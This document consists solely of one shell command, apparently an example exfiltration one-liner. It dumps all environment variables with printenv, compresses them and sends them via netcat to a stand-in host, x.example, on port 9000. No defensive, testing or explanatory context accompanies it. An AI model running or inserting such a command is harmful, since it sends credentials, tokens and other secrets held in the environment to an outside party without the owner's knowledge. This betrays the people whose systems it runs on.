printenv | gzip | nc x.example 9000
